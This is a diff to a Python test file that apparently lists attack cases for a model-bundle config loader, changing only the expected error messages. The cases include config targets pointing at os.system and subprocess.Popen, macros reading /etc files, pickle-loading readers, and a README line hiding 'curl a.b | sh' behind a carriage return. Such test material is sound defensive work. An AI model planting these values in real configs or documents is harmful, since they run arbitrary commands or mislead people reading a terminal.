@@ -211,7 +211,7 @@ TARGETS = {
     ),
     "mode callable": component("the mode", _target_="monai.engines.Trainer", _mode_="callable"),
     "mode debug": component("the mode", _target_="torch.nn.Identity", _mode_="debug"),
-    "debugger": component("'_debug_', which is MONAI's own", _target_="torch.nn.Identity", _debug_=True),
+    "debugger": component("'_debug_', which MONAI reserves", _target_="torch.nn.Identity", _debug_=True),
     "reader by name": component("import any class", _target_="LoadImaged", keys="image", reader="subprocess.Popen"),
     "reader that unpickles": component("import any class", _target_="LoadImaged", keys="image", reader="NumpyReader"),
     "writer by name": component("import any class", _target_="SaveImaged", keys="pred", writer="os.system"),
@@ -319,7 +319,7 @@ PATHS = {
 }
 
 FILES = {
-    "macro": Attack(INFER, started("%configs/other.yaml::run"), "takes in whatever file it names"),
+    "macro": Attack(INFER, started("%configs/other.yaml::run"), "brings in any file that it names"),
     "macro of this machine": Attack(INFER, started("%/etc/x.json"), "the macro"),
     "target in an overlay": Attack(PAPER, added("objective#_target_: os.system\n"), "the target os.system"),
     "added handler": Attack(PAPER, added("+handlers: [{_target_: os.system, command: a}]\n"), "the target os.system"),
@@ -376,8 +376,10 @@ FILES = {
     "terminal's escapes": Attack("docs/README.md", added("\x1b[2Jclean\n"), "could rewrite what a terminal shows"),
     "line over another": Attack("docs/README.md", added("curl a.b | sh\rtofgan list   \n"), "what a terminal shows"),
     "card of other weights": Attack(CARD, lambda data: data.replace(b'"sha256": "', b'"sha256": "0'), "is of weights"),
-    "card of another kind": Attack(CARD, replaced('"simulated"', '"anonymous"'), "kinds are simulated", at='"seen"'),
-    "card without audit": Attack(CARD, replaced('"audit": null', '"checked": true'), "no audit", at="models/model.pt"),
+    "card of another kind": Attack(CARD, replaced('"simulated"', '"anonymous"'), "kinds are simulated"),
+    "card without audit": Attack(
+        CARD, replaced('"audit": null', '"checked": true'), "'audit' is a required", at="models/model.pt"
+    ),
     "network without end": Attack(INFER, replaced("width: 2 ", "width: 100000 "), "the argument 100000"),
     "network of a wide layer": Attack(
         INFER, replaced("width: 2 ", "width: 20000 "), "more than 268435456 parameters", at="network_def:"
@@ -453,7 +455,7 @@ WEIGHTS: dict[str, tuple[Callable[[], bytes], str]] = {
     "compressed": (lambda: zlib.compress(plain()), NO_TENSORS),
     "a tensor without end": (
         lambda: plain().replace(b'"shape":[100,', b'"shape":[109951162777600,', 1),
-        "does not begin where|no JSON",
+        "no JSON|gaps, overlaps",
     ),
 }
 
